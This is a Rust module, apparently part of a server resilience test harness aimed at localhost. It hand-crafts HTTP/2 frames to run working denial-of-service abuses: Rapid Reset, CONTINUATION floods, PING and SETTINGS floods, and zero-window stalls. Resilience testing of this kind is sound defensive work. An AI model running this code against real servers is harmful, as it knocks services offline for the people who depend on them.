//! HTTP/2 as its abusers speak it: frames made by hand, with no library that would refuse to.

use std::{net::SocketAddr, time::Duration};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::{Instant, timeout},
};

/// Which abuse.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Abuse {
    /// Streams opened and reset at once, again and again.
    RapidReset,
    /// Headers that never end.
    Continuation,
    /// Pings as fast as they can be sent.
    Ping,
    /// Settings as fast as they can be sent.
    Settings,
    /// Requests whose answers are never taken.
    WindowZero,
}

/// What one abuser met.
#[derive(Debug, Clone, Copy, Default)]
pub(super) struct Met {
    /// Frames that were taken.
    pub(super) frames: u64,
    /// The server closed the connection.
    pub(super) closed: bool,
}

/// Abuses one connection until the server closes it, or for `most`.
pub(super) async fn abuse(address: SocketAddr, how: Abuse, most: Duration) -> Met {
    let mut met = Met::default();
    let Ok(socket) = TcpStream::connect(address).await else { return met };
    let (mut reading, mut writing) = socket.into_split();
    let sink = tokio::task::spawn(async move {
        let mut piece = [0; 16_384];
        while how != Abuse::WindowZero
            && matches!(reading.read(&mut piece).await, Ok(read) if read > 0)
        {}
        if how == Abuse::WindowZero {
            // Held open, never read.
            tokio::time::sleep(most).await;
        }
    });
    let begun = Instant::now();
    let window = if how == Abuse::WindowZero { vec![0, 4, 0, 0, 0, 0] } else { Vec::new() };
    let hello = [PREFACE.as_slice(), &frame(SETTINGS, 0, 0, &window)].concat();
    if writing.write_all(&hello).await.is_err() {
        return met;
    }
    let mut stream = 1;
    while begun.elapsed() < most {
        let burst = burst(how, &mut stream, met.frames == 0);
        match timeout(WRITE_MAX, writing.write_all(&burst)).await {
            Ok(Ok(())) => met.frames += BURST,
            Ok(Err(_)) => {
                met.closed = true;
                break;
            }
            // Nothing is taken any more: the server does not read, which is an answer too.
            Err(_) => break,
        }
        tokio::task::yield_now().await;
    }
    met.closed |= sink.is_finished();
    sink.abort();
    met
}

fn burst(how: Abuse, stream: &mut u32, first: bool) -> Vec<u8> {
    let mut out = Vec::new();
    for turn in 0..BURST {
        match how {
            Abuse::RapidReset => {
                out.extend(frame(HEADERS, END_HEADERS | END_STREAM, *stream, REQUEST));
                out.extend(frame(RST_STREAM, 0, *stream, &8_u32.to_be_bytes()));
                *stream += 2;
            }
            Abuse::Continuation if first && turn == 0 => {
                out.extend(frame(HEADERS, END_STREAM, *stream, REQUEST));
            }
            Abuse::Continuation => out.extend(frame(CONTINUATION, 0, *stream, &LITERAL)),
            Abuse::Ping => out.extend(frame(PING, 0, 0, &[7; 8])),
            Abuse::Settings => out.extend(frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 9])),
            Abuse::WindowZero => {
                out.extend(frame(HEADERS, END_HEADERS | END_STREAM, *stream, REQUEST));
                *stream += 2;
            }
        }
    }
    out
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut out = Vec::with_capacity(9 + payload.len());
    out.extend(length.iter().skip(1));
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend(payload);
    out
}

const PREFACE: &[u8; 24] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// `GET /healthz` of `localhost` over `http`, as HPACK has it.
const REQUEST: &[u8] = b"\x82\x86\x04\x08/healthz\x01\x09localhost";
/// A header of four letters that nothing indexes, as HPACK has it.
const LITERAL: [u8; 12] = *b"\x00\x04xxxx\x05yyyyy";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const BURST: u64 = 64;
const WRITE_MAX: Duration = Duration::from_secs(2);
